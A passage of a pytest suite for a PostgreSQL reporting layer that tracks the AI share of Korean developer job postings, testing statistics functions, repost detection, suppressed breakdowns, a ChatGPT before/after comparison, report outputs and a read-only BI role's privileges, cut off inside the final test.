"""The reporting layer against real PostgreSQL: the statistics functions, reposts, breakdowns, the ChatGPT comparison,
comments, the BI role's privileges and the report outputs."""

from __future__ import annotations

import math
import os
import re
import subprocess
import sys
from datetime import date, datetime, timedelta
from pathlib import Path

import psycopg
import pytest
from psycopg.rows import dict_row

from ai_job_share import databases
from ai_job_share.months import KST, Month
from ai_job_share.reporting.outputs import write_reports
from ai_job_share.taxonomy import enabled_taxonomies, load_taxonomy
from ai_job_share.tools.seed import seed_source
from ai_job_share.tools.stats import two_proportion_test, wilson_interval
from ai_job_share.warehouse import pipeline, writes

#: This test session's roles (tests/conftest.py names them after its own prefix).
ROLES = databases.Roles.for_prefix(databases.configured_prefix())
BI_ROLE = ROLES.bi
CLI = str(Path(sys.executable).with_name("ai-job-share"))

_next_id = iter(range(1, 10**9))


@pytest.fixture
def add_posting(insert_tagged_posting):
    """``add_posting(conn, taxonomy_id, published, ...)``: one posting shown in core.tagged_postings."""

    def add(
        conn: psycopg.Connection,
        taxonomy_id: str,
        published: datetime,
        *,
        company_id: int | None = 1,
        title: str | None = "백엔드 개발자",
        job_group: str = "개발",
        status: str = "open",
        is_ai: bool = False,
        is_data: bool = False,
        job_role: str | None = "백엔드",
        years: int | None = 3,
        employees: int | None = 50,
        keywords: list[str] | None = None,
    ) -> int:
        """One posting shown in core.tagged_postings under ``taxonomy_id``; ``published`` is naive Korea time."""
        posting_id = next(_next_id)
        published = published.replace(tzinfo=KST)
        if keywords is None:
            keywords = (["AI"] if is_ai else []) + (["데이터"] if is_data else [])
        data_terms = [k for k in keywords if k == "데이터"]
        insert_tagged_posting(
            conn,
            posting_id=posting_id,
            taxonomy_id=taxonomy_id,
            month=Month.containing(published).first_day,
            ai_keywords=[k for k in keywords if k not in data_terms] if is_ai else [],
            data_keywords=data_terms if is_data else [],
            company_id=company_id,
            company_employee_count=employees,
            job_group=job_group,
            job_role=job_role,
            required_years_min=years,
            published_at=published,
            status=status,
            title=title,
        )
        return posting_id

    return add


def refresh(conn: psycopg.Connection) -> None:
    writes.refresh_reporting(conn)


def monthly(conn: psycopg.Connection, taxonomy_id: str) -> list[dict]:
    with conn.cursor(row_factory=dict_row) as cursor:
        return cursor.execute(
            "SELECT * FROM reporting.monthly_ai_share WHERE taxonomy_id = %s ORDER BY month", (taxonomy_id,)
        ).fetchall()


def reposts(conn: psycopg.Connection, taxonomy_id: str) -> int:
    return sum(row["repost_postings"] for row in monthly(conn, taxonomy_id))


# --- the SQL statistics functions agree with stats.py and with hand-computed values -------------------------------


def test_sql_erfc_matches_python_to_double_precision(warehouse_conn):
    xs = [i / 50 for i in range(-300, 1326)] + [1.4999999, 1.5, 1.5000001, 26.4, 26.5, 30.0, -30.0]
    got = warehouse_conn.execute(
        "SELECT x, reporting.erfc(x) FROM unnest(%s::float8[]) AS x ORDER BY x", (xs,)
    ).fetchall()
    for x, value in got:
        expected = math.erfc(x)
        if expected < 1e-300:
            assert value < 1e-300, x
        else:
            assert value == pytest.approx(expected, rel=1e-13), x


@pytest.mark.parametrize(("successes", "trials"), [(10, 100), (400, 1000), (0, 10), (10, 10), (1, 3), (952, 2857)])
def test_sql_wilson_interval_matches_stats_py(warehouse_conn, successes, trials):
    low, high = warehouse_conn.execute(
        "SELECT reporting.wilson_low(%s, %s), reporting.wilson_high(%s, %s)", (successes, trials, successes, trials)
    ).fetchone()
    expected = wilson_interval(successes, trials)
    assert low == pytest.approx(expected.low, abs=1e-14)
    assert high == pytest.approx(expected.high, abs=1e-14)


def test_sql_wilson_interval_of_10_in_100_by_hand(warehouse_conn):
    low, high, empty = warehouse_conn.execute(
        "SELECT reporting.wilson_low(10, 100), reporting.wilson_high(10, 100), reporting.wilson_low(0, 0)"
    ).fetchone()
    assert (round(low, 6), round(high, 6), empty) == (0.055229, 0.174366, None)


@pytest.mark.parametrize(
    "counts", [(40, 100, 60, 100), (3500, 10000, 1900, 5000), (1900, 5000, 3500, 10000), (5, 7, 0, 9), (1, 2, 1, 2)]
)
def test_sql_two_proportion_test_matches_stats_py(warehouse_conn, counts):
    z, p_value, se = warehouse_conn.execute(
        "SELECT reporting.two_proportion_z(%s, %s, %s, %s), reporting.two_sided_p_value("
        " reporting.two_proportion_z(%s, %s, %s, %s)), reporting.difference_se(%s, %s, %s, %s)",
        counts * 3,
    ).fetchone()
    expected = two_proportion_test(*counts)
    assert z == pytest.approx(expected.z, rel=1e-12, abs=1e-15)
    assert p_value == pytest.approx(expected.p_value, rel=1e-12)
    assert expected.difference + 1.959963984540054 * se == pytest.approx(expected.difference_ci.high, abs=1e-14)


def test_sql_two_proportion_test_by_hand(warehouse_conn):
    z, p_value = warehouse_conn.execute(
        "SELECT reporting.two_proportion_z(40, 100, 60, 100),"
        " reporting.two_sided_p_value(reporting.two_proportion_z(40, 100, 60, 100))"
    ).fetchone()
    assert (round(z, 6), round(p_value, 7)) == (2.828427, 0.0046777)
    assert warehouse_conn.execute("SELECT reporting.two_proportion_z(0, 10, 0, 20)").fetchone()[0] is None


# --- reposts ------------------------------------------------------------------------------------------------------


def test_a_repost_is_the_same_company_and_title_within_30_korea_time_days(add_posting, warehouse_conn):
    jan_1 = datetime(2022, 1, 1, 10, 0)
    cases = {
        # taxonomy (one case each): (first posting kwargs, second posting kwargs, expected reposts)
        "day-30": ({"published": jan_1}, {"published": jan_1 + timedelta(days=30)}, 1),
        "day-31": ({"published": jan_1}, {"published": jan_1 + timedelta(days=31)}, 0),
        # 30 Korea-time days (Jan 1 -> Jan 31), though 31 days apart in UTC dates (Dec 31 -> Jan 31)
        "kst-days": ({"published": datetime(2022, 1, 1, 8, 30)}, {"published": datetime(2022, 1, 31, 10, 0)}, 1),
        # 30 calendar days even though 30 days + 23:59 apart
        "calendar-days": (
            {"published": datetime(2022, 1, 1, 0, 0)},
            {"published": datetime(2022, 1, 31, 23, 59)},
            1,
        ),
        "same-day": ({"published": jan_1}, {"published": jan_1}, 1),
        "other-company": ({"published": jan_1}, {"published": jan_1 + timedelta(days=3), "company_id": 2}, 0),
        "spacing-and-case": (
            {"published": jan_1, "title": "Backend 개발자 (Python)"},
            {"published": jan_1 + timedelta(days=3), "title": "  BACKEND개발자  ( python ) "},
            1,
        ),
        "tabs-and-newlines": (
            {"published": jan_1, "title": "데이터 엔지니어"},
            {"published": jan_1 + timedelta(days=3), "title": "데이터\t엔지니어\n"},
            1,
        ),
        "other-title": (
            {"published": jan_1, "title": "백엔드 개발자"},
            {"published": jan_1 + timedelta(days=3), "title": "프론트엔드 개발자"},
            0,
        ),
        "no-company": (
            {"published": jan_1, "company_id": None},
            {"published": jan_1 + timedelta(days=3), "company_id": None},
            0,
        ),
        "no-title": ({"published": jan_1, "title": None}, {"published": jan_1 + timedelta(days=3), "title": " "}, 0),
        # a deleted posting is not counted, so publishing it again is not a repost of a counted posting
        "after-deleted": (
            {"published": jan_1, "status": "deleted"},
            {"published": jan_1 + timedelta(days=3)},
            0,
        ),
        "after-other-group": (
            {"published": jan_1, "job_group": "디자인"},
            {"published": jan_1 + timedelta(days=3)},
            0,
        ),
    }
    found = {}
    for case, (first, second, _) in cases.items():  # one at a time: a month's postings show under every taxonomy
        warehouse_conn.execute("TRUNCATE core.postings, meta.month_loads, meta.loads CASCADE")
        add_posting(warehouse_conn, case, **first)
        add_posting(warehouse_conn, case, **second)
        refresh(warehouse_conn)
        found[case] = reposts(warehouse_conn, case)
    assert found == {case: expected for case, (_, _, expected) in cases.items()}


def test_full_width_and_half_width_titles_are_the_same_title(add_posting, warehouse_conn):
    if warehouse_conn.execute("SELECT getdatabaseencoding()").fetchone()[0] != "UTF8":
        pytest.fail("the test warehouse must be UTF8 (NFKC normalisation)")
    add_posting(warehouse_conn, "nfkc", datetime(2022, 1, 3), title="ＡＩ　엔지니어")  # full-width letters and space
    add_posting(warehouse_conn, "nfkc", datetime(2022, 1, 5), title="ai 엔지니어")
    refresh(warehouse_conn)
    assert reposts(warehouse_conn, "nfkc") == 1


def test_a_chain_of_reposts_and_a_configurable_window(add_posting, warehouse_conn):
    # Published on days 0, 25, 50, 90: 25 is a repost of 0, 50 of 25 (the latest earlier one); 90 is 40 days later.
    start = datetime(2022, 3, 1, 12, 0)
    for days in (0, 25, 50, 90):
        add_posting(warehouse_conn, "chain", start + timedelta(days=days))
    refresh(warehouse_conn)
    assert reposts(warehouse_conn, "chain") == 2
    try:
        warehouse_conn.execute("UPDATE meta.reporting_settings SET value = '40' WHERE name = 'repost_window_days'")
        refresh(warehouse_conn)
        assert reposts(warehouse_conn, "chain") == 3
        warehouse_conn.execute("UPDATE meta.reporting_settings SET value = '0' WHERE name = 'repost_window_days'")
        refresh(warehouse_conn)
        assert reposts(warehouse_conn, "chain") == 0
    finally:
        warehouse_conn.execute("UPDATE meta.reporting_settings SET value = '30' WHERE name = 'repost_window_days'")
        refresh(warehouse_conn)
    with pytest.raises(psycopg.errors.CheckViolation):
        warehouse_conn.execute("UPDATE meta.reporting_settings SET value = 'thirty' WHERE name = 'repost_window_days'")


def test_shares_over_first_postings_leave_reposts_out(add_posting, warehouse_conn):
    # January: 4 postings; 2 AI ones of company 1 and their reposts (AI), and 2 other non-AI postings.
    day = datetime(2022, 1, 3)
    add_posting(warehouse_conn, "first", day, title="ML 엔지니어", is_ai=True)
    add_posting(warehouse_conn, "first", day + timedelta(days=7), title="ML엔지니어", is_ai=True)
    add_posting(warehouse_conn, "first", day + timedelta(days=14), title="ml 엔지니어", is_ai=True)
    add_posting(warehouse_conn, "first", day, title="QA 엔지니어", company_id=2)
    add_posting(warehouse_conn, "first", day, title="DevOps 엔지니어", company_id=3, is_data=True)
    refresh(warehouse_conn)
    (row,) = monthly(warehouse_conn, "first")
    counts = ("developer_postings", "ai_postings", "repost_postings", "first_postings")
    assert [row[column] for column in counts] == [5, 3, 2, 3]
    assert (row["first_ai_postings"], row["first_ai_or_data_postings"]) == (1, 2)
    assert str(row["ai_share"]) == "0.6000"
    assert str(row["first_ai_share"]) == "0.3333"
    assert str(row["first_ai_or_data_share"]) == "0.6667"


def test_loaded_postings_carry_their_title_and_title_key(source_conn, warehouse_conn):
    source_conn.execute("INSERT INTO job_board.companies (id, name, employee_count) VALUES (1, '테스트', 50)")
    source_conn.execute(
        "INSERT INTO job_board.postings (id, company_id, job_group, job_role, title, main_tasks, published_at, status)"
        " VALUES (1, 1, '개발', '백엔드', 'ＡＩ  Backend 개발자', 'AI 추천', %s, 'open')",
        (datetime(2022, 1, 5, tzinfo=KST),),
    )
    pipeline.process_month(source_conn, warehouse_conn, Month(2022, 1), [load_taxonomy("wanted-2023")])
    assert warehouse_conn.execute("SELECT title, title_key FROM core.tagged_postings").fetchall() == [
        ("ＡＩ  Backend 개발자", "aibackend개발자")
    ]


# --- monthly statistics ------------------------------------------------------------------------------------------


def test_monthly_statistics_small_sample_and_moving_average(add_posting, warehouse_conn):
    # Jan: 99 postings (33 AI), Feb: 100 (50 AI), Apr: 200 (20 AI): no March, so April has no 3-month average.
    # May: 100 (30 AI) and June: 100 (40 AI): June's average is (20/200 + 30/100 + 40/100) / 3 = 0.2667.
    plan = {(2022, 1): (99, 33), (2022, 2): (100, 50), (2022, 4): (200, 20), (2022, 5): (100, 30), (2022, 6): (100, 40)}
    for (year, month), (postings, ai) in plan.items():
        for i in range(postings):
            add_posting(warehouse_conn, "stats", datetime(year, month, 2), title=f"t{i}", is_ai=i < ai)
    refresh(warehouse_conn)
    rows = {row["month"].strftime("%Y-%m"): row for row in monthly(warehouse_conn, "stats")}
    assert list(rows) == ["2022-01", "2022-02", "2022-04", "2022-05", "2022-06"]
    assert [rows[m]["small_sample"] for m in rows] == [True, False, False, False, False]
    jan = rows["2022-01"]
    expected = wilson_interval(33, 99)
    assert float(jan["ai_share_ci_low"]) == pytest.approx(expected.low, abs=5e-5)
    assert float(jan["ai_share_ci_high"]) == pytest.approx(expected.high, abs=5e-5)
    assert float(jan["ai_share_ci_low"]) < float(jan["ai_share"]) < float(jan["ai_share_ci_high"])
    assert [rows[m]["ai_share_ma3"] for m in ("2022-01", "2022-02", "2022-04", "2022-05")] == [None] * 4
    assert str(rows["2022-06"]["ai_share_ma3"]) == "0.2667"


def test_the_views_count_every_posting_of_core_tagged_postings_once_per_taxonomy(source_conn, warehouse_conn):
    # The views count distinct keyword sets and read the taxonomies' flags once per set; this compares them with
    # counts taken posting by posting, on a generated board classified under every enabled taxonomy.
    seed_source(
        source_conn,
        first_month="2022-01",
        last_month="2022-02",
        developer_postings_per_month=150,
        replace_imported=True,
    )
    for month in (Month(2022, 1), Month(2022, 2)):
        pipeline.process_month(source_conn, warehouse_conn, month, enabled_taxonomies())
    refresh(warehouse_conn)
    developer = "FROM core.tagged_postings WHERE job_group = '개발'"
    expected_shares = warehouse_conn.execute(
        "SELECT month, taxonomy_id, count(*), count(*) FILTER (WHERE is_ai), count(*) FILTER (WHERE is_data),"
        f" count(*) FILTER (WHERE is_ai_or_data) {developer} GROUP BY 1, 2 ORDER BY 1, 2"
    ).fetchall()
    assert len(expected_shares) == 2 * len(enabled_taxonomies())
    assert (
        warehouse_conn.execute(
            "SELECT month, taxonomy_id, developer_postings, ai_postings, data_postings, ai_or_data_postings"
            " FROM reporting.monthly_ai_share ORDER BY 1, 2"
        ).fetchall()
        == expected_shares
    )
    expected_keywords = warehouse_conn.execute(
        "SELECT month, taxonomy_id, keyword, count(DISTINCT posting_id)"
        " FROM core.tagged_postings, unnest(matched_keywords) AS keyword"
        " WHERE job_group = '개발' GROUP BY 1, 2, 3 ORDER BY 1, 2, 3"
    ).fetchall()
    assert (
        warehouse_conn.execute(
            "SELECT month, taxonomy_id, keyword, postings FROM reporting.monthly_keyword_counts ORDER BY 1, 2, 3"
        ).fetchall()
        == expected_keywords
    )
    expected_roles = warehouse_conn.execute(
        "SELECT month, taxonomy_id, coalesce(nullif(btrim(job_role), ''), '미기재'), count(*),"
        f" count(*) FILTER (WHERE is_ai_or_data) {developer} GROUP BY 1, 2, 3 ORDER BY 1, 2, 3"
    ).fetchall()
    assert warehouse_conn.execute(
        "SELECT month, taxonomy_id, category, developer_postings, ai_or_data_postings"
        " FROM reporting.monthly_ai_share_breakdown WHERE dimension = 'job_role' ORDER BY 1, 2, 3"
    ).fetchall() == [row if row[3] >= 30 else (*row[:4], None) for row in expected_roles]  # < 30: suppressed


def test_keyword_counts_per_month(add_posting, warehouse_conn):
    day = datetime(2022, 2, 10)
    add_posting(warehouse_conn, "kw", day, keywords=["AI", "머신러닝"], is_ai=True)
    add_posting(warehouse_conn, "kw", day, keywords=["AI", "데이터"], is_ai=True, is_data=True)
    add_posting(warehouse_conn, "kw", day, keywords=[])
    add_posting(warehouse_conn, "kw", day, keywords=["AI"], is_ai=True, status="deleted")
    add_posting(warehouse_conn, "kw", day, keywords=["AI"], is_ai=True, job_group="디자인")
    refresh(warehouse_conn)
    counts = warehouse_conn.execute(
        "SELECT keyword, postings, developer_postings, share::text FROM reporting.monthly_keyword_counts"
        " WHERE taxonomy_id = 'kw' ORDER BY keyword"
    ).fetchall()
    assert counts == [("AI", 2, 3, "0.6667"), ("데이터", 1, 3, "0.3333"), ("머신러닝", 1, 3, "0.3333")]


def test_breakdown_cells_below_30_postings_are_suppressed(add_posting, warehouse_conn):
    day = datetime(2022, 1, 10)
    for i in range(29):  # QA: 29 postings, suppressed
        add_posting(warehouse_conn, "bd", day, job_role="QA", is_ai=i < 10, years=0, employees=10)
    for i in range(30):  # 백엔드: 30 postings, 12 AI, shown
        add_posting(warehouse_conn, "bd", day, job_role="백엔드", is_ai=i < 12, years=8, employees=1001)
    refresh(warehouse_conn)
    with warehouse_conn.cursor(row_factory=dict_row) as cursor:
        cells = {
            (row["dimension"], row["category"]): row
            for row in cursor.execute(
                "SELECT * FROM reporting.monthly_ai_share_breakdown WHERE taxonomy_id = 'bd'"
            ).fetchall()
        }
    assert set(cells) == {
        ("job_role", "QA"),
        ("job_role", "백엔드"),
        ("seniority", "신입"),
        ("seniority", "8년 이상"),
        ("company_size", "1-10명"),
        ("company_size", "1001명 이상"),
    }
    qa = cells[("job_role", "QA")]
    assert qa["suppressed"] is True
    assert qa["developer_postings"] == 29
    assert [qa[c] for c in ("ai_postings", "ai_share", "ai_share_ci_low", "ai_share_ci_high", "ai_or_data_share")] == [
        None
    ] * 5
    backend = cells[("job_role", "백엔드")]
    assert backend["suppressed"] is False
    assert (backend["developer_postings"], backend["ai_postings"], str(backend["ai_share"])) == (30, 12, "0.4000")
    assert float(backend["ai_share_ci_low"]) == pytest.approx(wilson_interval(12, 30).low, abs=5e-5)
    assert cells[("seniority", "신입")]["suppressed"] and not cells[("seniority", "8년 이상")]["suppressed"]
    assert cells[("company_size", "1001명 이상")]["ai_postings"] == 12


def test_seniority_and_company_size_bands(add_posting, warehouse_conn):
    day = datetime(2022, 1, 10)
    for years, employees in [(0, 1), (1, 10), (3, 11), (4, 50), (7, 51), (8, 200), (12, 201), (None, 1000), (2, 1001)]:
        add_posting(warehouse_conn, "bands", day, years=years, employees=employees)
    add_posting(warehouse_conn, "bands", day, years=5, employees=None)
    refresh(warehouse_conn)
    bands = warehouse_conn.execute(
        "SELECT dimension, category, category_order, developer_postings FROM reporting.monthly_ai_share_breakdown"
        " WHERE taxonomy_id = 'bands' AND dimension <> 'job_role' ORDER BY dimension, category_order"
    ).fetchall()
    assert bands == [
        ("company_size", "1-10명", 1, 2),
        ("company_size", "11-50명", 2, 2),
        ("company_size", "51-200명", 3, 2),
        ("company_size", "201-1000명", 4, 2),
        ("company_size", "1001명 이상", 5, 1),
        ("company_size", "미기재", 6, 1),
        ("seniority", "신입", 1, 1),
        ("seniority", "1-3년", 2, 3),
        ("seniority", "4-7년", 3, 3),
        ("seniority", "8년 이상", 4, 2),
        ("seniority", "미기재", 5, 1),
    ]


def test_posting_issues_per_month_reason_and_action(warehouse_conn):
    warehouse_conn.execute(
        "INSERT INTO core.posting_issues (month, posting_id, reason, action, stage, postings) VALUES"
        " ('2022-01-01', 1, 'deleted', 'excluded', 'load', 1), ('2022-01-01', 2, 'deleted', 'excluded', 'load', 1),"
        " ('2022-01-01', NULL, 'no_job_role', 'kept', 'load', 40), ('2022-02-01', 3, 'deleted', 'excluded', 'load', 1),"
        " (NULL, 4, 'no_published_at', 'excluded', 'extract', 1)"
    )
    rows = warehouse_conn.execute(
        "SELECT month::text, reason, action, postings FROM reporting.monthly_posting_issues ORDER BY 1, 2"
    ).fetchall()
    assert rows == [
        ("2022-01-01", "deleted", "excluded", 2),
        ("2022-01-01", "no_job_role", "kept", 40),  # recorded once for the load, counting its 40 postings
        ("2022-02-01", "deleted", "excluded", 1),
        (None, "no_published_at", "excluded", 1),
    ]


# --- the ChatGPT comparison --------------------------------------------------------------------------------------


def test_chatgpt_comparison_pools_the_periods_and_tests_the_difference(add_posting, warehouse_conn):
    # Before: 2022-01 (20 of 50 AI) and 2022-11 (20 of 50); after: 2022-12 (30 of 50) and 2023-05 (30 of 50).
    # Outside both periods: 2021-12 and 2023-06 (all AI) must not count.
    plan = {(2021, 12): (10, 10), (2022, 1): (50, 20), (2022, 11): (50, 20), (2022, 12): (50, 30), (2023, 5): (50, 30)}
    plan[(2023, 6)] = (10, 10)
    for (year, month), (postings, ai) in plan.items():
        for i in range(postings):
            add_posting(warehouse_conn, "gpt", datetime(year, month, 15), title=f"t{year}{month}{i}", is_ai=i < ai)
    refresh(warehouse_conn)
    with warehouse_conn.cursor(row_factory=dict_row) as cursor:
        row = cursor.execute(
            "SELECT * FROM reporting.chatgpt_comparison"
            " WHERE taxonomy_id = 'gpt' AND population = 'all' AND measure = 'ai'"
        ).fetchone()
    assert (row["before_months"], row["before_postings"], row["before_hits"]) == (2, 100, 40)
    assert (row["after_months"], row["after_postings"], row["after_hits"]) == (2, 100, 60)
    shares = (str(row["before_share"]), str(row["after_share"]), str(row["difference_pp"]))
    assert shares == ("0.4000", "0.6000", "20.00")
    # By hand (see tests/unit/tools/test_stats.py): z = 2.828427, p = 0.0046777, interval 20 -/+ 13.58 pp.
    assert row["z_statistic"] == pytest.approx(2.828427, abs=1e-6)
    assert row["p_value"] == pytest.approx(0.0046777, abs=1e-7)
    assert (str(row["difference_ci_low_pp"]), str(row["difference_ci_high_pp"])) == ("6.42", "33.58")
    assert row["significant_at_5pct"] is True
    populations = warehouse_conn.execute(
        "SELECT population, measure FROM reporting.chatgpt_comparison WHERE taxonomy_id = 'gpt' ORDER BY 1, 2"
    ).fetchall()
    assert populations == [
        ("all", "ai"),
        ("all", "ai_or_data"),
        ("first_postings", "ai"),
        ("first_postings", "ai_or_data"),
    ]


def test_year_over_year_compares_each_month_with_the_same_month_a_year_earlier(add_posting, warehouse_conn):
    # 2022-01: 20 of 50 AI; 2023-01: 30 of 50. 2022-06 has no month a year earlier or later: no row.
    for (year, month), (postings, ai) in {(2022, 1): (50, 20), (2023, 1): (50, 30), (2022, 6): (10, 5)}.items():
        for i in range(postings):
            add_posting(warehouse_conn, "yoy", datetime(year, month, 15), title=f"t{year}{month}{i}", is_ai=i < ai)
    refresh(warehouse_conn)
    with warehouse_conn.cursor(row_factory=dict_row) as cursor:
        rows = cursor.execute(
            "SELECT * FROM reporting.year_over_year WHERE taxonomy_id = 'yoy' AND population = 'all' AND measure = 'ai'"
        ).fetchall()
    assert [row["month"] for row in rows] == [date(2023, 1, 1)]
    row = rows[0]
    assert (row["year_earlier_postings"], row["year_earlier_hits"], row["postings"], row["hits"]) == (50, 20, 50, 30)
    assert (str(row["year_earlier_share"]), str(row["share"]), str(row["change_pp"])) == ("0.4000", "0.6000", "20.00")
    # By hand: pooled share 0.5, z = 0.2 / sqrt(0.25 * (1/50 + 1/50)) = 2.0, p = erfc(2 / sqrt 2) = 0.0455003;
    # unpooled se = sqrt(2 * 0.24 / 50) = 0.0979796, interval 20 -/+ 1.959964 * 9.79796 pp = 0.80 .. 39.20.
    assert row["z_statistic"] == pytest.approx(2.0, abs=1e-9)
    assert row["p_value"] == pytest.approx(0.0455003, abs=1e-7)
    assert (str(row["change_ci_low_pp"]), str(row["change_ci_high_pp"])) == ("0.80", "39.20")


# --- documentation and access ------------------------------------------------------------------------------------


def test_every_reporting_view_and_column_has_a_comment(warehouse_conn):
    relations = warehouse_conn.execute(
        "SELECT c.relname, obj_description(c.oid, 'pg_class') FROM pg_class AS c"
        " JOIN pg_namespace AS n ON n.oid = c.relnamespace"
        " WHERE n.nspname = 'reporting' AND c.relkind IN ('r', 'v', 'm', 'p', 'f')"
    ).fetchall()
    names = {name for name, _ in relations}
    assert {"monthly_ai_share", "chatgpt_comparison", "monthly_ai_share_breakdown", "monthly_keyword_counts"} <= names
    assert [name for name, comment in relations if not (comment or "").strip()] == []
    uncommented = warehouse_conn.execute(
        "SELECT c.relname || '.' || a.attname FROM pg_class AS c"
        " JOIN pg_namespace AS n ON n.oid = c.relnamespace"
        " JOIN pg_attribute AS a ON a.attrelid = c.oid AND a.attnum > 0 AND NOT a.attisdropped"
        " WHERE n.nspname = 'reporting' AND c.relkind IN ('r', 'v', 'm', 'p', 'f')"
        "   AND coalesce(btrim(col_description(c.oid, a.attnum)), '') = ''"
        " ORDER BY 1"
    ).fetchall()
    assert uncommented == []


def bi_attempt(conn: psycopg.Connection, statement: str):
    """Run ``statement`` as the BI role, in a transaction that is always rolled back."""
    with conn.transaction(force_rollback=True):
        conn.execute(f"SET LOCAL ROLE {BI_ROLE}")
        cursor = conn.execute(statement)
        return cursor.fetchall() if cursor.description else None


def test_the_bi_role_reads_reporting_and_nothing_else(add_posting, warehouse_conn, warehouse_admin_conn):
    add_posting(warehouse_conn, "bi", datetime(2022, 1, 5), is_ai=True)
    refresh(warehouse_conn)
    warehouse_conn = warehouse_admin_conn  # SET ROLE needs the setup user
    assert warehouse_conn.execute(
        "SELECT rolcanlogin, rolsuper, rolcreaterole, rolcreatedb FROM pg_roles WHERE rolname = %s", (BI_ROLE,)
    ).fetchone() == (True, False, False, False)
    views = [
        name
        for (name,) in warehouse_conn.execute(
            "SELECT c.relname FROM pg_class AS c JOIN pg_namespace AS n ON n.oid = c.relnamespace"
            " WHERE n.nspname = 'reporting' AND c.relkind IN ('r', 'v', 'm') ORDER BY 1"
        )
    ]
    for view in views:
        bi_attempt(warehouse_conn, f"SELECT * FROM reporting.{view} LIMIT 1")
    query = "SELECT ai_postings FROM reporting.monthly_ai_share WHERE taxonomy_id = 'bi'"
    assert bi_attempt(warehouse_conn, query) == [(1,)]
    forbidden = [
        "INSERT INTO reporting.monthly_ai_share (month, taxonomy_id) VALUES ('2022-01-01', 'x')",
        "UPDATE reporting.monthly_ai_share SET ai_postings = 0",
        "DELETE FROM reporting.monthly_ai_share",
        "UPDATE reporting.chatgpt_comparison SET p_value = 1",
        "REFRESH MATERIALIZED VIEW reporting.monthly_ai_share",
        "CREATE TABLE reporting.bi_scratch (a int)",
        "CREATE VIEW reporting.bi_view AS SELECT 1 AS a",
        "CREATE TABLE public.bi_scratch (a int)",
        "CREATE SCHEMA bi_scratch",
        "SELECT count(*) FROM core.tagged_postings",
        "SELECT count(*) FROM core.postings",
        "SELECT count(*) FROM core.posting_texts",
        "INSERT INTO core.postings (posting_id) VALUES (1)",
        "UPDATE meta.reporting_settings SET value = '1'",
        "DROP MATERIALIZED VIEW reporting.monthly_ai_share",
    ]
    for statement in forbidden:
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            bi_attempt(warehouse_conn, statement)


def test_future_reporting_tables_are_readable_but_not_writable_by_the_bi_role(warehouse_admin_conn):
    warehouse_conn = warehouse_admin_conn  # SET ROLE needs the setup user
    with warehouse_conn.transaction(force_rollback=True):
        warehouse_conn.execute(f"SET LOCAL ROLE {ROLES.etl}")  # created by the ETL role, as the DAG would
        warehouse_conn.execute("CREATE TABLE reporting.future_summary (a int)")
        warehouse_conn.execute("INSERT INTO reporting.future_summary VALUES (1)")
        warehouse_conn.execute(f"SET LOCAL ROLE {BI_ROLE}")
        assert warehouse_conn.execute("SELECT a FROM reporting.future_summary").fetchall() == [(1,)]
        for statement in (
            "INSERT INTO reporting.future_summary VALUES (2)",
            "UPDATE reporting.future_summary SET a = 2",
            "DELETE FROM reporting.future_summary",
            "TRUNCATE reporting.future_summary",
        ):
            with pytest.raises(psycopg.errors.InsufficientPrivilege), warehouse_conn.transaction():
                warehouse_conn.execute(statement)


def test_the_bi_role_name_is_a_setting(warehouse_admin_conn):
    warehouse_conn = warehouse_admin_conn  # CREATE ROLE needs the setup user
    other = f"ai_job_share_test_bi_{os.getpid()}"
    with warehouse_conn.transaction(force_rollback=True):  # CREATE ROLE is transactional: nothing is left behind
        warehouse_conn.execute("UPDATE meta.reporting_settings SET value = %s WHERE name = 'bi_role'", (other,))
        assert warehouse_conn.execute("SELECT meta.grant_reporting_access()").fetchone() == (other,)
        assert warehouse_conn.execute(
            "SELECT has_schema_privilege(%s, 'reporting', 'USAGE'),"
            " has_table_privilege(%s, 'reporting.monthly_ai_share', 'SELECT'),"
            " has_table_privilege(%s, 'reporting.monthly_ai_share', 'INSERT'),"
            " has_schema_privilege(%s, 'core', 'USAGE')",
            (other, other, other, other),
        ).fetchone() == (True, True, False, False)


# --- report outputs ----------------------------------------------------------------------------------------------


def fill_two_years(add_posting, conn: psycopg.Connection) -> None:
    for month in range(1, 18):
        year, month_of_year = 2022 + (month - 1) // 12, (month - 1) % 12 + 1
        for i in range(40):
            add_posting(
                conn,
                "wanted-2023",
                datetime(year, month_of_year, 1 + i % 28, 9),
                title=f"포지션 {i}",
                company_id=i % 7,
                is_ai=i % 3 == 0,
                is_data=i % 4 == 0,
            )
    refresh(conn)


def test_report_outputs_chart_html_and_csvs(add_posting, warehouse_conn, tmp_path):
    fill_two_years(add_posting, warehouse_conn)
    files = write_reports(warehouse_conn, tmp_path / "reports")
    chart = files.charts["wanted-2023"]
    assert chart.parent == tmp_path / "reports"
    assert chart.stat().st_size > 10_000
    assert chart.read_bytes().startswith(b"\x89PNG\r\n\x1a\n")
    page = files.html.read_text(encoding="utf-8")
    assert '<img alt="monthly AI share, taxonomy wanted-2023" src="data:image/png;base64,' in page
    assert "2022-11-30" in page and "2023-05" in page
    # The trend break in a sentence (the verdict of all postings, AI share) and a table; the comparison as pooled.
    assert "<h3>Trend break at 2022-12 (interrupted time series)</h3>" in page
    verdict = warehouse_conn.execute(
        "SELECT verdict FROM reporting.chatgpt_trend_break"
        " WHERE taxonomy_id = 'wanted-2023' AND population = 'all' AND measure = 'ai'"
    ).fetchone()[0]
    assert f"For all developer postings: {verdict}.</p>" in page
    assert "<h3>Pooled before and after 2022-12 (months 2022-01..2023-05)</h3>" in page
    names = {path.name for path in files.csvs}
    assert {"monthly_ai_share.csv", "chatgpt_comparison.csv", "monthly_ai_share_breakdown.csv"} <= names
    assert {"chatgpt_trend_break.csv", "chatgpt_trend_break_placebo.csv"} <= names
    lines = (tmp_path / "reports" / "monthly_ai_share.csv").read_text(encoding="utf-8").splitlines()
    assert lines[0].startswith("month,taxonomy_id,developer_postings,ai_postings,ai_share,")
    assert len(lines) == 1 + 17
    assert [p.name for p in (tmp_path / "reports").iterdir() if p.name.startswith(".")] == []  # no temp files left


def test_report_outputs_on_an_empty_warehouse(warehouse_conn, tmp_path):
    refresh(warehouse_conn)
    files = write_reports(warehouse_conn, tmp_path)
    assert files.charts == {}
    assert "No data yet" in files.html.read_text(encoding="utf-8")
    assert (tmp_path / "monthly_ai_share.csv").read_text(encoding="utf-8").count("\n") == 1  # the header


def test_export_reports_command(add_posting, warehouse_conn, tmp_path):
    fill_two_years(add_posting, warehouse_conn)
    env = {**os.environ, "AI_JOB_SHARE_WAREHOUSE_URL": warehouse_conn.info.dsn}
    completed = subprocess.run(
